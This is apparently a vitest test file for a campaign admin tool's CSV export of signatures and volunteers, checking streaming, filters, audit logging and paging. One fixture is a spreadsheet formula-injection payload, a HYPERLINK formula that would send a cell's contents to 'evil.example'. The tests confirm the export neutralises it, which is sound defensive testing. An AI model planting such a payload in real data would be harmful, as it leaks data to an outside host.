import crypto from "node:crypto";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import type { DbClient } from "@/lib/platform/db";
import { createDriverPages, type DriverPages } from "@/lib/admin/export/driver-pages";
import { createExports } from "@/lib/admin/export/exports";
import { parseFilters } from "@/lib/validation/admin/query";
import {
  signatureFiltersSchema,
  volunteerFiltersSchema,
  type SignatureFilters,
  type VolunteerFilters,
} from "@/lib/validation/admin/list-filters";
import { emailKey } from "@/lib/validation/email-key";
import { volunteerEmailLookup } from "@/lib/volunteers/keys";
import { sealPersonal } from "@/lib/volunteers/sealed-fields";
import { createTestDatabase, type TestDatabase } from "@/tests/support/databases";
import { PROVIDERS, newKey, newSecret, ringOf } from "@/tests/support/volunteer-fixtures";

// A campaigner downloads signatures and volunteers as CSV. The file is streamed from the database in
// batches, opens cleanly in a spreadsheet (BOM, header, ISO dates), cannot smuggle a formula in, matches
// the filters on the list page, and leaves an audit event saying who took how many rows.

const ACTOR = "campaigner@example.org";
const BASE = Date.parse("2026-11-01T09:00:00.000Z");
const HOUR = 60 * 60 * 1000;
const FORMULA_NAME = '=HYPERLINK("https://evil.example/?"&A1,"Click")';

/** RFC 4180 parsing, enough to read back what the export wrote: quotes, doubled quotes, line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 1;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ",") {
      row.push(cell);
      cell = "";
    } else if (c === "\r" || c === "\n") {
      // A line break outside quotes ends the record, as a spreadsheet reads it.
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
      if (c === "\r" && text[i + 1] === "\n") i += 1;
    } else cell += c;
  }
  if (cell !== "" || row.length > 0) {
    row.push(cell);
    rows.push(row);
  }
  return rows;
}

async function readAll(stream: ReadableStream<Uint8Array>): Promise<Uint8Array> {
  return new Uint8Array(await new Response(stream).arrayBuffer());
}

function signatureFilters(query: Record<string, string>): SignatureFilters {
  const parsed = parseFilters(signatureFiltersSchema, query);
  if (!parsed.ok) throw new Error(JSON.stringify(parsed.fieldErrors));
  return parsed.filters;
}

function volunteerFilters(query: Record<string, string>): VolunteerFilters {
  const parsed = parseFilters(volunteerFiltersSchema, query);
  if (!parsed.ok) throw new Error(JSON.stringify(parsed.fieldErrors));
  return parsed.filters;
}

const nations = ["england", "scotland", "wales", "northern-ireland", "other"] as const;
const statuses = ["confirmed", "pending", "held"] as const;

/** 2,000 signatures: one an hour, but runs of five share a timestamp, so the id must break ties. */
async function seedSignatures(db: DbClient, count = 2_000) {
  const rows = Array.from({ length: count }, (_, i) => {
    const createdAt = new Date(BASE + Math.floor(i / 5) * HOUR);
    const status = statuses[i % 3]!;
    const nation = nations[i % 5]!;
    const email = `signer.${i}@example.org`;
    return {
      id: crypto.randomUUID(),
      name: i === 7 ? FORMULA_NAME : `Signer Number ${i}`,
      email,
      emailKey: emailKey(email),
      nation,
      country: nation === "other" ? "FR" : "GB",
      status,
      campaignEmails: i % 2 === 0,
      consentVersion: "pledge-2026-11-25",
      consentAt: createdAt,
      clientHash: "test",
      createdAt,
      confirmedAt: status === "confirmed" ? new Date(createdAt.getTime() + 60_000) : null,
      confirmedOn: status === "confirmed" ? createdAt.toISOString().slice(0, 10) : null,
    };
  });
  for (let i = 0; i < rows.length; i += 500) await db.signature.createMany({ data: rows.slice(i, i + 500) });
  return rows;
}

/** A signature written while an export runs. */
function extraSignature(createdAt: Date) {
  const id = crypto.randomUUID();
  const email = `late.${id}@example.org`;
  return {
    id,
    name: "Late Signer",
    email,
    emailKey: emailKey(email),
    nation: "england",
    country: "GB",
    status: "pending",
    consentVersion: "pledge-2026-11-25",
    consentAt: createdAt,
    clientHash: "test",
    createdAt,
  };
}

describe.each(PROVIDERS)("staff export people as CSV on %s", (provider) => {
  let database: TestDatabase;
  let db: DbClient;
  const secret = newSecret();
  const ring = ringOf("k1", { k1: newKey() });
  const lookup = (email: string) => volunteerEmailLookup(secret, email);
  let seeded: Awaited<ReturnType<typeof seedSignatures>>;

  const build = (batchSize: number, pages: DriverPages = createDriverPages(database.url)) =>
    createExports(
      db,
      { pages, volunteerKeys: () => ({ ring, lookup }) },
      { batchSize, now: () => new Date(BASE) },
    );

  beforeAll(async () => {
    database = await createTestDatabase(provider);
    db = database.client;
    seeded = await seedSignatures(db);
  });
  afterAll(() => database?.drop());
  beforeEach(() => db.auditEvent.deleteMany());

  it("streams 2,000 signatures that parse back: BOM, header, ISO dates, formulas neutralised", async () => {
    const download = build(300).signatures(signatureFilters({}), ACTOR);
    expect(download.filename).toBe("signatures-2026-11-01.csv");

    const bytes = await readAll(download.stream);
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const [header, ...rows] = parseCsv(new TextDecoder("utf-8", { ignoreBOM: false }).decode(bytes));
    expect(header).toEqual([
      "ID",
      "Name",
      "Email",
      "Nation",
      "Country",
      "Status",
      "Campaign emails",
      "Consent version",
      "Consent given at",
      "Signed at",
      "Confirmed at",
      "Partner",
    ]);
    expect(rows).toHaveLength(2_000);
    // Every row once, newest first.
    expect(new Set(rows.map((row) => row[0])).size).toBe(2_000);
    const signedAt = rows.map((row) => row[9]!);
    expect([...signedAt].sort().reverse()).toEqual(signedAt);

    const iso = /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/;
    for (const row of rows) {
      expect(row).toHaveLength(12);
      expect(row[8]).toMatch(iso);
      expect(row[9]).toMatch(iso);
      if (row[5] === "confirmed") expect(row[10]).toMatch(iso);
      else expect(row[10]).toBe("");
      expect(["yes", "no"]).toContain(row[6]);
    }
    const byId = new Map(rows.map((row) => [row[0], row]));
    const formula = byId.get(seeded[7]!.id)!;
    expect(formula[1]).toBe(`'${FORMULA_NAME}`);
    const plain = byId.get(seeded[8]!.id)!;
    expect(plain.slice(1, 6)).toEqual([
      "Signer Number 8",
      "signer.8@example.org",
      "northern-ireland",
      "GB",
      "held",
    ]);
    expect(plain[9]).toBe(seeded[8]!.createdAt.toISOString());

    const events = await db.auditEvent.findMany();
    expect(events).toHaveLength(1);
    expect(events[0]).toMatchObject({ actor: ACTOR, action: "export-signatures", subject: "signatures" });
    expect(JSON.parse(events[0]!.detail!)).toEqual({
      filters: {},
      rows: 2_000,
      complete: true,
      startedAt: new Date(BASE).toISOString(),
    });
  });

  it("uses 5,000-row batches by default and still sends a header when nothing matches", async () => {
    const exports = build(5_000);
    const all = parseCsv(
      new TextDecoder().decode(await readAll(exports.signatures(signatureFilters({}), ACTOR).stream)),
    );
    expect(all).toHaveLength(2_001);
    const none = await readAll(
      exports.signatures(signatureFilters({ q: "nobody@example.org" }), ACTOR).stream,
    );
    expect([...none.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(parseCsv(new TextDecoder().decode(none))).toHaveLength(1);
  });

  it("narrows the export with the list's filters, and records them (never the search words)", async () => {
    const exports = build(250);
    const cases: { query: Record<string, string>; expected: (row: (typeof seeded)[number]) => boolean }[] = [
      { query: { status: "confirmed" }, expected: (row) => row.status === "confirmed" },
      {
        query: { nation: "scotland", emails: "yes" },
        expected: (row) => row.nation === "scotland" && row.campaignEmails,
      },
      { query: { country: "fr" }, expected: (row) => row.country === "FR" },
      {
        query: { emails: "no", status: "pending" },
        expected: (row) => !row.campaignEmails && row.status === "pending",
      },
      {
        query: { from: "2026-11-10", to: "2026-11-12" },
        expected: (row) =>
          row.createdAt >= new Date("2026-11-10T00:00:00Z") &&
          row.createdAt < new Date("2026-11-13T00:00:00Z"),
      },
      // Name search ignores case on both databases.
      { query: { q: "number 19" }, expected: (row) => /number 19/i.test(row.name) },
      { query: { q: "SIGNER.42@Example.org" }, expected: (row) => row.email === "signer.42@example.org" },
    ];
    for (const { query, expected } of cases) {
      const rows = parseCsv(
        new TextDecoder().decode(await readAll(exports.signatures(signatureFilters(query), ACTOR).stream)),
      ).slice(1);
      const wanted = seeded
        .filter(expected)
        .map((row) => row.id)
        .sort();
      expect(wanted.length, JSON.stringify(query)).toBeGreaterThan(0);
      expect(wanted.length, JSON.stringify(query)).toBeLessThan(2_000);
      expect(rows.map((row) => row[0]).sort(), JSON.stringify(query)).toEqual(wanted);
    }
    const details = (await db.auditEvent.findMany({ orderBy: { at: "asc" } })).map((event) =>
      JSON.parse(event.detail!),
    );
    expect(details).toHaveLength(cases.length);
    expect(details[1]).toMatchObject({ filters: { nation: "scotland", emails: "yes" }, complete: true });
    expect(details[5].filters).toEqual({ search: "by name" });
    expect(details[6]).toMatchObject({ filters: { search: "by email" }, rows: 1 });
    expect(JSON.stringify(details)).not.toContain("42@");
  });

  it("records what was sent when the download is cut short", async () => {
    const download = build(100).signatures(signatureFilters({}), ACTOR);
    const reader = download.stream.getReader();
    let received = 0;
    while (received < 20_000) {
      const { value, done } = await reader.read();
      if (done) throw new Error("ended early");
      received += value.byteLength;
    }
    await reader.cancel();
    const events = await db.auditEvent.findMany();
    expect(events).toHaveLength(1);
    const detail = JSON.parse(events[0]!.detail!);
    expect(detail.complete).toBe(false);
    expect(detail.rows).toBeGreaterThan(0);
    expect(detail.rows).toBeLessThan(2_000);
  });

  it("exports every signature once, newest first, while new ones keep arriving", async () => {
    // Seven pages of 300. After each page arrives, sign-ups come in as they do on a live site (newer than
    // every row), and after each of the first three, one lands among the rows not yet read. Offset paging
    // would repeat rows here.
    const reader = build(300).signatures(signatureFilters({}), ACTOR).stream.getReader();
    const decoder = new TextDecoder();
    const newer: string[] = [];
    const older: string[] = [];
    let text = "";
    let pages = 0;
    try {
      for (;;) {
        const { value, done } = await reader.read();
        if (done) break;
        text += decoder.decode(value, { stream: true });
        pages += 1;
        const arriving = Array.from({ length: 25 }, (_, i) =>
          extraSignature(new Date(BASE + 1_000 * HOUR + pages * 60_000 + i)),
        );
        const behind = pages <= 3 ? [extraSignature(new Date(BASE - pages * HOUR))] : [];
        await db.signature.createMany({ data: [...arriving, ...behind] });
        newer.push(...arriving.map((row) => row.id));
        older.push(...behind.map((row) => row.id));
      }
    } finally {
      await db.signature.deleteMany({ where: { id: { in: [...newer, ...older] } } });
    }
    expect(pages).toBe(7);
    const ids = parseCsv(text)
      .slice(1)
      .map((row) => row[0]!);
    expect(new Set(ids).size).toBe(ids.length);
    // Every signature there when the export began, once and in the list's order; none that arrived
    // after it began and are newer than what it had read; and those written behind it, since it had not
    // reached them yet.
    const newestFirst = (a: { createdAt: Date; id: string }, b: { createdAt: Date; id: string }) =>
      b.createdAt.getTime() - a.createdAt.getTime() || (a.id < b.id ? 1 : -1);
    const seededIds = new Set<string>(seeded.map((row) => row.id));
    expect(ids.filter((id) => seededIds.has(id))).toEqual([...seeded].sort(newestFirst).map((row) => row.id));
    expect(ids.filter((id) => newer.includes(id))).toEqual([]);
    expect(ids.slice(-older.length)).toEqual(older);
    expect(ids).toHaveLength(seeded.length + older.length);
  });

  it("reads the next page from the database only when the client has taken the previous one", async () => {
    const real = createDriverPages(database.url);
    let fetched = 0;
    const counting: DriverPages = {
      provider: real.provider,
      async *pages(query, size) {
        for await (const page of real.pages(query, size)) {
          fetched += page.length;
          yield page;
        }
      },
    };
    const reader = build(100, counting).signatures(signatureFilters({}), ACTOR).stream.getReader();
    let received = -1; // the header
    for (let read = 1; read <= 3; read += 1) {
      const { value } = await reader.read();
      received += new TextDecoder().decode(value).split("\r\n").length - 1;
      // A slow client: however long it takes, nothing more is read for it meanwhile.
      await new Promise((resolve) => setTimeout(resolve, 50));
      expect(fetched).toBe(read * 100);
      expect(received).toBe(fetched);
    }
    await reader.cancel();
    expect(fetched).toBe(300);
  });

  it("exports volunteers opened batch by batch, filtered by board, status and exact email", async () => {
    await db.volunteer.deleteMany();
    const people = Array.from({ length: 120 }, (_, i) => ({
      id: crypto.randomUUID(),
      name: i === 3 ? "+Mòrag MacLeod" : `Volunteer ${i}`,
      email: `volunteer.${i}@example.scot`,
      phone: i % 2 ? "07912 345678" : undefined,
      board: i % 3 === 0 ? "Highland" : "Fife",
      status: i % 4 === 0 ? "pending" : "confirmed",
      createdAt: new Date(BASE + Math.floor(i / 3) * HOUR),
    }));
    await db.volunteer.createMany({
      data: people.map((p) => ({
        id: p.id,
        emailLookup: lookup(p.email),
        ...sealPersonal(ring, {
          name: p.name,
          email: p.email,
          phone: p.phone,
          note: "Happy to help\non two lines =1+1",
        }),
        healthBoard: p.board,
        helpWith: "msp,media",
        contactBy: "email",
        status: p.status,
        healthConsentVersion: "volunteer-health-2026-11-25",
        healthConsentAt: p.createdAt,
        clientHash: "test",
        createdAt: p.createdAt,
      })),
    });
    const exports = build(25);
    const read = async (query: Record<string, string>) =>
      parseCsv(
        new TextDecoder().decode(await readAll(exports.volunteers(volunteerFilters(query), ACTOR).stream)),
      );

    const [header, ...all] = await read({});
    expect(header).toContain("Health board");
    expect(all).toHaveLength(120);
    const morag = all.find((row) => row[0] === people[3]!.id)!;
    expect(morag.slice(1, 5)).toEqual([
      "'+Mòrag MacLeod",
      "volunteer.3@example.scot",
      "07912 345678",
      "Highland",
    ]);
    expect(morag[5]).toBe(
      "Contact or meet my MSP (Member of the Scottish Parliament); Share my story with the media",
    );
    expect(morag[7]).toBe("Happy to help\non two lines =1+1");
    expect(all.find((row) => row[0] === people[2]!.id)![3]).toBe("");

    const highlandConfirmed = (await read({ healthBoard: "Highland", status: "confirmed" })).slice(1);
    expect(highlandConfirmed.map((row) => row[0]).sort()).toEqual(
      people
        .filter((p) => p.board === "Highland" && p.status === "confirmed")
        .map((p) => p.id)
        .sort(),
    );
    const one = (await read({ q: "Volunteer.7@Example.scot" })).slice(1);
    expect(one.map((row) => row[0])).toEqual([people[7]!.id]);

    const events = await db.auditEvent.findMany({
      where: { action: "export-volunteers" },
      orderBy: { at: "asc" },
    });
    expect(events.map((event) => JSON.parse(event.detail!).rows)).toEqual([120, highlandConfirmed.length, 1]);
    expect(events.map((e) => e.detail).join()).not.toContain("example.scot");
  });
});
